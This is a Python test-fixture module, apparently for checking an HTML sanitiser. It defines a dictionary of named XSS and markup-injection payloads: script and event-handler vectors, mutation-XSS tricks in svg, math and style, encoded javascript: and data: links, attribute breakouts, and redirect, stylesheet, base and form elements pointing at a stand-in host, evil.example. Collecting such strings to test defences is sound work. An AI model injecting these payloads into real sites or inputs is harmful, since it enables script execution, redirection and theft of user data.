"""Texts that would run, load, lead away or hide something if a page took them for markup."""

SCRIPT = "<script>top.hits=1</script>"

PAYLOADS = {
    "script": SCRIPT,
    "script in upper case and halves": "<SCR<script>IPT>top.hits=1</SCR</script>IPT><ScRiPt >top.hits=1</sCrIpT >",
    "image with an event": '<img src="x" onerror="top.hits=1">',
    "image without quotes": "<img/src=x/onerror=top.hits=1>",
    "svg with an event": '<svg onload="top.hits=1"><rect width="9" height="9"/></svg>',
    "svg with a script": "<svg><script>top.hits=1</script></svg>",
    "svg animation of a link": (
        '<svg><a><animate attributeName="href" values="javascript:top.hits=1"/><text x="9" y="9">a</text></a></svg>'
    ),
    "svg with foreign markup": '<svg><foreignObject><img src="x" onerror="top.hits=1"/></foreignObject></svg>',
    "svg title that ends early": '<svg><title></title><img src="x" onerror="top.hits=1"></title></svg>',
    "style that ends early": "<svg></p><style><a id=\"</style><img src='x' onerror='top.hits=1'>\">",
    "mathml": (
        '<math><mtext><table><mglyph><style><img src="x" onerror="top.hits=1"></style></mglyph></table></mtext></math>'
    ),
    "link that runs": '<a href="javascript:top.hits=1">here</a>',
    "link that runs, encoded": '<a href="&#106;ava&Tab;script:top.hits=1">here</a>',
    "link to data": '<a href="data:text/html;base64,PHNjcmlwdD50b3AuaGl0cz0xPC9zY3JpcHQ+">here</a>',
    "redirect": '<meta http-equiv="refresh" content="0;url=http://evil.example/away">',
    "style that hides": "<style>body, main { display: none !important }</style>",
    "style that loads": (
        '<style>@import "http://evil.example/a.css";</style><div style="background:url(http://evil.example/b.png)">'
        "x</div>"
    ),
    "sheet from elsewhere": '<link rel="stylesheet" href="http://evil.example/c.css">',
    "frame": '<iframe src="data:text/html,<script>top.hits=1</script>" srcdoc="<script>top.hits=1</script>"></iframe>',
    "object": (
        '<object data="data:text/html,<script>top.hits=1</script>"></object><embed src="http://evil.example/d.swf">'
    ),
    "form": (
        '<form action="http://evil.example/e"><input name="q" autofocus onfocus="top.hits=1"><button>go</button></form>'
    ),
    "base": '<base href="http://evil.example/">',
    "details with an event": '<details open ontoggle="top.hits=1"><summary>a</summary></details>',
    "event on an allowed element": (
        '<p onclick="top.hits=1" onmouseover="top.hits=1" style="position:fixed;inset:0">a</p>'
    ),
    "diagram": '<pre class="mermaid">graph TD; a["<img src=x onerror=top.hits=1>"]</pre>',
    "quotes that end an attribute": '"><img src="x" onerror="top.hits=1">',
    "quotes with a new attribute": '" autofocus tabindex="1" onfocus="top.hits=1" x="',
    "comment and end tags": "--><!-- </title></style></textarea></main></body></html><img src=x onerror=top.hits=1>",
    "encoded script": "&lt;script&gt;top.hits=1&lt;/script&gt;",
    "end mark of a report": '<section id="coursewaves-end-of-report"></section> id="coursewaves-end-of-report"',
    "template and braces": "{{ 7 * 7 }} {% raw %} {place} %s $x_{$ \\n",
}
"""One hostile text by what it tries. `top.hits` tells a browser test that something ran."""
